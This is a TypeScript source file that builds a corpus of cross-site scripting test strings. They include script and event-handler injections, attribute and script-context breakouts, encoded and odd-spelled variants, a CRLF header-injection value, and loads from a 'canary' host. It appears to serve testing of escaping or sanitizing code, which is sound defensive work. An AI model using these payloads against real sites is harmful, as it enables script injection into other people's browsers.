// Texts that run a script, show a dialog or load something where a browser takes them for HTML, CSS or a script of its own
// page. `canary` = host and port of a server that nothing may ask.

/** Every other one calls alert, the others mark the window: some pages suppress dialogs. */
export function xssCorpus(canary: string): string[] {
  const at = `//${canary}/c`;
  return [
    ...inText(at),
    ...inAttributes(at),
    ...inScripts(at),
    ...ofOddSpelling(),
    // Where a header is made of it.
    'x\r\nContent-Type: text/html\r\n\r\n<script>§</script>',
  ].map((text, n) => text.replaceAll('§', n % 2 === 0 ? 'alert(1)' : '__xss=1'));
}

const inText = (at: string) => [
  '<script>§</script>',
  '<script>§</script>',
  `<script src=${at}></script>`,
  '</script><script>§</script>',
  '</title><script>§</script>',
  '</style><script>§</script>',
  '</textarea><script>§</script>',
  '</pre><script>§</script>',
  '</code></pre><img src=x onerror=§>',
  '--><script>§</script>',
  ']]><script>§</script>',
  '<img src=x onerror=§>',
  `<img src=${at}>`,
  '<svg onload=§>',
  '<svg/onload=§>',
  '<svg><script>§</script></svg>',
  '<svg><animate onbegin=§ attributeName=x dur=1s>',
  '<body onload=§>',
  '<iframe src=javascript:§></iframe>',
  '<iframe srcdoc="<script>parent.§</script>"></iframe>',
  `<iframe src=${at}></iframe>`,
  `<object data=${at}></object>`,
  `<embed src=${at}>`,
  `<link rel=stylesheet href=${at}>`,
  `<style>@import '${at}';</style>`,
  `<style>*{background:url(${at})}</style>`,
  `<base href=${at}>`,
  `<meta http-equiv=refresh content="0;url=${at}">`,
  `<video src=${at} autoplay></video>`,
  '<video src=x onerror=§></video>',
  '<audio src=x onerror=§></audio>',
  '<details open ontoggle=§>',
  '<input autofocus onfocus=§>',
  '<select autofocus onfocus=§>',
  '<style onload=§></style>',
  `<form action=${at}><button autofocus onfocus=§>`,
];

const inAttributes = (at: string) => [
  '"><script>§</script>',
  "'><script>§</script>",
  '"><svg onload=§>',
  '" autofocus onfocus=§ x="',
  "' autofocus onfocus=§ x='",
  ` style=background:url(${at}) `,
  '<a href=javascript:§ autofocus>x</a>',
  'javascript:§',
  'data:text/html,<script>§</script>',
];

const inScripts = (at: string) => [
  '"-§-"',
  "'-§-'",
  '`-§-`',
  '";§;//',
  '\\";§;//',
  `\${§}`,
  "{{constructor.constructor('§')()}}",
  `*/§;import('${at}')/*`,
  '\u2028§\u2029',
];

const ofOddSpelling = () => [
  '<ScRiPt>§</sCrIpT>',
  '<<script>§//<</script>',
  '<img """><script>§</script>">',
  '<img src=x onerror\n=\n§>',
  '<script\u0000>§</script>',
  '&lt;script&gt;§&lt;/script&gt;',
  '%3Cscript%3E§%3C/script%3E',
  '\\u003cscript\\u003e§\\u003c/script\\u003e',
  '+ADw-script+AD4-§+ADw-/script+AD4-',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<math><mtext></table><img src=x onerror=§>',
  '<!--<img src="--><img src=x onerror=§>">',
];
